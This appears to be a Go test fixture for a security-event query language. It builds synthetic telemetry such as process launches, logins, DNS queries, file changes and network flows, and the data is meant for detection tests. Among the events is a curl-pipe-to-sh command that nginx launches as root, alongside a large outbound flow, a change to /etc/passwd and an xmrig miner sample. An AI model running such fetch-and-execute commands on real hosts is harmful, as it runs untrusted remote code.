package language

import (
	"time"

	"google.golang.org/protobuf/types/known/durationpb"
	"google.golang.org/protobuf/types/known/timestamppb"

	pb "github.com/amoskys/amoskys/internal/pb/amoskys/v1"
)

// story is what the questions are asked of: each event's agent.kind is its name in the
// tests.
func story() []*pb.Event {
	host := func(name string, ip ...string) *pb.Host { return &pb.Host{Name: name, Ip: ip} }
	web, db, dc := host("web-1", "192.0.2.10", "2001:db8::10"), host("db-1", "198.51.100.7"), host("DC-1.", "10.0.0.5")
	process := func(name string, h *pb.Host, p, parent *pb.Process) *pb.Event {
		return &pb.Event{
			Type: "process.execution", Host: h, Agent: &pb.Agent{Id: "proc", Kind: name}, Severity: pb.Severity_SEVERITY_INFORMATIONAL,
			Body: &pb.Event_Process{Process: &pb.ProcessActivity{Action: pb.ProcessAction_PROCESS_ACTION_LAUNCH, Process: p, Parent: parent}},
		}
	}
	sample := func(name string, h *pb.Host, process string, cpu float64, rss uint64) *pb.Event {
		return &pb.Event{
			Type: "process.sample", Host: h, Agent: &pb.Agent{Id: "proc", Kind: name},
			Body: &pb.Event_Process{Process: &pb.ProcessActivity{
				Process: &pb.Process{Name: process}, Usage: &pb.ProcessUsage{CpuPercent: cpu, RssBytes: rss},
			}},
		}
	}
	login := func(name, user, from string, status pb.AuthStatus, detail string) *pb.Event {
		return &pb.Event{
			Type: "auth.attempt", Host: dc, Message: detail, Agent: &pb.Agent{Id: "auth", Kind: name}, Severity: pb.Severity_SEVERITY_MEDIUM,
			Body: &pb.Event_Authentication{Authentication: &pb.Authentication{
				Status: status, User: &pb.User{Name: user}, SrcEndpoint: &pb.Endpoint{Ip: from}, Service: "sshd",
			}},
		}
	}
	nginx := &pb.Process{Pid: 100, Uid: "p-1", Name: "nginx", User: &pb.User{Name: "www-data"}}
	curl := &pb.Process{
		Pid: 101, Uid: "p-2", Name: "curl", Executable: "/usr/bin/curl", CmdLine: "curl --insecure https://198.18.0.1/x | sh",
		Args: []string{"curl", "--insecure", "https://198.18.0.1/x"}, User: &pb.User{Name: "root"},
	}
	attack := process("curl", web, curl, nginx)
	attack.Severity, attack.Labels = pb.Severity_SEVERITY_HIGH, map[string]string{"site": "Berlin", "rack": "7"}
	flow := &pb.Event{
		Type: "flow.ended", Host: web, Agent: &pb.Agent{Id: "flow", Kind: "flow"}, Labels: map[string]string{"site": "Berlin"},
		Body: &pb.Event_Network{Network: &pb.NetworkActivity{
			SrcEndpoint: &pb.Endpoint{Ip: "192.0.2.10", Port: 40_000}, DstEndpoint: &pb.Endpoint{Ip: "203.0.113.9", Port: 443}, ProtocolName: "tcp",
			BytesOut: 25_000_000, BytesIn: 1_200, Process: curl, Tls: &pb.Tls{Version: "1.0", CertificateNotAfter: timestamppb.New(time.Date(2026, 2, 1, 0, 0, 0, 5e8, time.UTC))},
		}},
	}
	killed := process("killed", db, &pb.Process{Pid: 7, Uid: "p-9", Name: "PowerShell", Executable: "/tmp/x/pwsh"}, &pb.Process{Uid: "p-2", Name: "sh"})
	killed.GetProcess().ExitSignal = new(int32(9))
	return []*pb.Event{
		attack,
		flow,
		killed,
		process("wget", db, &pb.Process{Pid: 102, Uid: "p-3", Name: "wget", Executable: "/usr/bin/wget", CmdLine: "wget -q http://example.org", User: &pb.User{Name: "ann"}}, nil),
		sample("compiler", db, "cc1", 99.5, 3<<30),
		sample("miner", web, "xmrig", 97.25, 64<<20),
		sample("idle", web, "cron", 0.25, 2<<20),
		login("failed", "ann", "203.0.113.50", pb.AuthStatus_AUTH_STATUS_FAILURE, "Invalid user ann from 203.0.113.50"),
		login("failed-again", "root", "10.0.0.9", pb.AuthStatus_AUTH_STATUS_FAILURE, "password was INVALID"),
		login("entered", "ann", "203.0.113.50", pb.AuthStatus_AUTH_STATUS_SUCCESS, "accepted"),
		{
			Type: "dns.query", Host: db, Agent: &pb.Agent{Id: "dns", Kind: "dns"},
			Body: &pb.Event_Network{Network: &pb.NetworkActivity{DnsQuery: "www.example.net", DnsAnswers: []*pb.DnsAnswer{{Type: "A", Rdata: "203.0.113.9", Ttl: 300}, {Type: "A", Rdata: "203.0.113.10", Ttl: 60}}}},
		},
		{
			Type: "file.modify", Host: web, Agent: &pb.Agent{Id: "file", Kind: "etc"}, Severity: pb.Severity_SEVERITY_CRITICAL,
			Body: &pb.Event_File{File: &pb.FileActivity{Action: pb.FileAction_FILE_ACTION_MODIFY, File: &pb.File{Path: "/etc/passwd", Name: "passwd"}, Actor: curl}},
		},
		{
			Type: "file.read", Host: web, Agent: &pb.Agent{Id: "file", Kind: "read"},
			Body: &pb.Event_File{File: &pb.FileActivity{Action: pb.FileAction_FILE_ACTION_READ, File: &pb.File{Path: "/etc/hosts"}}},
		},
		{
			Type: "snmp.reading", Observer: host("web-1"), About: &pb.Device{Name: "switch-3"}, Agent: &pb.Agent{Id: "snmp", Kind: "switch"},
			Labels: map[string]string{"site": "west berlin"},
			Body:   &pb.Event_Snmp{Snmp: &pb.SnmpReading{Target: "192.0.2.2", Uptime: durationpb.New(30 * time.Minute), Interfaces: []*pb.SnmpInterface{{Index: 1, BytesIn: 10}, {Index: 2, BytesIn: 99_999}}}},
		},
		{
			Type: "agent.health", Host: db, Agent: &pb.Agent{Id: "proc", Kind: "sick"}, Severity: pb.Severity_SEVERITY_LOW,
			Body: &pb.Event_AgentHealth{AgentHealth: &pb.AgentHealth{State: pb.AgentState_AGENT_STATE_DEGRADED, Detail: "spool is full"}},
		},
	}
}
